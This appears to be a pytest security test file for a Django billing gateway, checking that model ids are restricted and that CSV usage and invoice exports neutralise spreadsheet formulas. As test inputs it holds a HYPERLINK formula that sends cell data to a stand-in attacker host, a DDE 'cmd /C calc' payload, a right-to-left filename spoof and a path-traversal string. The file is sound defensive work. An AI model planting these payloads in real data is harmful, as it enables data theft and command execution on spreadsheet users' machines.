"""Formula injection through the CSV exports: a model id such as `=HYPERLINK(...)` was accepted
by `models register` and the admin and written raw into /api/usage.csv and invoice CSVs, where a
spreadsheet runs it. Model ids now have a character set, and every text cell a CSV starts with
=, +, -, @, tab or CR gets a leading quote (numbers stay numbers)."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import httpx
import pytest
from django.contrib.auth import get_user_model

from billing.exports import invoice_csv
from billing.invoices import InvoiceData, Line
from models_mgmt.models import ServedModel
from saas_platform.periods import month_start
from tenants import services
from tests.billing.factories import event, store
from tests.security.conftest import own_gateway, post_form

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "model_id", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "bad id", "tab\tid",
                 "x\u202egpj.exe", "a;b", "../etc"],
)  # fmt: skip
def test_models_register_refuses_an_id_outside_the_character_set(manage, model_id):
    result = manage("models", "register", "--engine", "local", "--", model_id)

    assert result.returncode != 0
    assert "A model id may only have letters, digits and . _ - / :" in result.stderr
    assert not ServedModel.objects.filter(model_id=model_id).exists()


@pytest.mark.parametrize("model_id", ["meta-llama/Llama-3.1-8B", "qwen2.5:7b", "e5_small"])
def test_the_usual_ids_are_still_taken(manage, model_id):
    result = manage("models", "register", model_id, "--engine", "local")

    assert result.returncode == 0, result.stderr
    assert ServedModel.objects.filter(model_id=model_id).exists()


def test_the_admin_refuses_a_formula_as_a_model_id(transactional_db, tmp_path):
    """On a gateway of its own: the admin's change log names the model's content type, which
    a server that lived through earlier tests' database flushes may hold with a stale id."""
    get_user_model().objects.create_superuser("op", "op@example.com", "operator-pass-1")
    add = "/admin/models_mgmt/servedmodel/add/"
    form = {"model_id": FORMULA, "engine": "local", "task": "chat", "base_url": "",
            "upstream_model": "smollm2", "vram_bytes": "0", "engine_settings": "{}",
            "keep_alive_seconds": "900", "max_replicas": "1", "enabled": "on"}  # fmt: skip
    with own_gateway(tmp_path) as gateway, httpx.Client(base_url=gateway.url) as client:
        post_form(client, "/admin/login/", {"username": "op", "password": "operator-pass-1"})
        refused = post_form(client, add, form)
        accepted = post_form(client, add, {**form, "model_id": "smol-chat"})

    assert refused.status_code == 200  # the form again, with its error
    assert "A model id may only have letters" in refused.text
    assert accepted.status_code == 302
    assert list(ServedModel.objects.values_list("model_id", flat=True)) == ["smol-chat"]


def test_csv_exports_neutralise_formulas_already_in_the_ledger(gateway, transactional_db):
    """Rows stored before the rule (or by any path that skips it) are made harmless when
    written, in the usage CSV and the invoice CSV alike."""
    tenant = services.tenant_register(slug="acme", name="Acme")
    key = services.apikey_issue(tenant=tenant, name="ci").plaintext
    store(event(tenant, model=FORMULA, request_id="=1+1"), event(tenant, model="llama"))
    auth = {"Authorization": f"Bearer {key}"}

    usage = httpx.get(f"{gateway.url}/api/usage.csv", headers=auth)
    invoice = httpx.get(f"{gateway.url}/api/invoices/{month_start():%Y-%m}.csv", headers=auth)

    assert usage.status_code == invoice.status_code == 200
    rows = _rows(usage.text)
    assert {row["model"] for row in rows} == {"'" + FORMULA, "llama"}
    assert "'=1+1" in {row["request_id"] for row in rows}
    assert all(row["prompt_tokens"] == "1000" for row in rows)
    lines = _rows(invoice.text)
    assert {line["model"] for line in lines} == {"'" + FORMULA, "llama"}
    assert all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line.values())


def test_negative_amounts_stay_numbers_while_text_is_quoted():
    line = Line(kind="adjustment", model_id="-rf", requests=1, input_tokens=-5,
                output_tokens=0, input_per_million=Decimal("0.50"),
                output_per_million=Decimal("1.00"), amount=Decimal("-1.50"))  # fmt: skip
    tenant = type("Tenant", (), {"slug": "acme"})()
    data = InvoiceData(tenant=tenant, period=datetime(2026, 11, 1, tzinfo=UTC).date(),
                       status="final", number="CN-2026-000001", currency="USD",
                       lines=[line])  # fmt: skip

    (row,) = _rows(invoice_csv(data).decode())

    assert row["model"] == "'-rf"
    assert (row["amount"], row["input_tokens"]) == ("-1.50", "-5")
